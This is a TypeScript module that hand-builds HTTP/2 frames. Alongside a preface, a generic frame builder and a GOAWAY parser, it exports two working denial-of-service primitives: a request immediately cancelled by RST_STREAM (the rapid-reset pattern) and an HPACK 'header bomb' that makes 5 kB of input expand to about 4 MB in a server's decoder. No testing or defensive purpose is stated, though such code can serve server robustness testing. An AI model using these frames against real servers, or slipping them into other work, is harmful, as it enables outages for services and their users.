// HTTP/2 frames by hand, for a client that does what Node's own would not (RFC 9113 §4.1, HPACK RFC 7541).

const SETTINGS = 0x4;
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const GOAWAY = 0x7;
const END_STREAM_AND_HEADERS = 0x5;
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Static table entries :method GET, :scheme http, :path /, and the name of :authority as a literal with indexing. */
const GET_HTTP_ROOT = [0x82, 0x86, 0x84, 0x41];

/** The client's connection preface with empty settings. */
export const PREFACE = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(SETTINGS, 0, 0, Buffer.alloc(0)),
]);

/** A GET request on a new stream, and its cancellation right behind it. */
export function openAndReset(stream: number, authority: string): Buffer {
  const block = Buffer.from([...GET_HTTP_ROOT, authority.length, ...Buffer.from(authority)]);
  return Buffer.concat([frame(HEADERS, END_STREAM_AND_HEADERS, stream, block), frame(RST_STREAM, 0, stream, CANCEL)]);
}

/** HPACK (RFC 7541): a field of 3,900 bytes goes into the table once and is then named 1,000 times with a byte each, so that 5 kB stand for 4 MB. */
export function headerBomb(stream: number): Buffer {
  const rest = 3_900 - 127;
  const literal = Buffer.from([0x40, 1, 0x61, 0x7f, 0x80 | (rest % 128), rest >> 7]);
  const named = [literal, Buffer.alloc(3_900, 0x62), Buffer.alloc(1_000, 0xbe)];
  const block = Buffer.concat([Buffer.from(GET_HTTP_ROOT.slice(0, 3)), ...named]);
  return frame(HEADERS, END_STREAM_AND_HEADERS, stream, block);
}

/** Of the first GOAWAY in what a server sent: the last stream that it had taken up, and the reason (RFC 9113 §6.8). */
export function readGoodbye(came: Buffer): { last: number; reason: number } | undefined {
  for (let at = 0; at + 17 <= came.length; at += 9 + came.readUIntBE(at, 3))
    if (came[at + 3] === GOAWAY) return { last: came.readUInt32BE(at + 9), reason: came.readUInt32BE(at + 13) };
  return undefined;
}

/** RFC 9113 §4.1. */
export function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
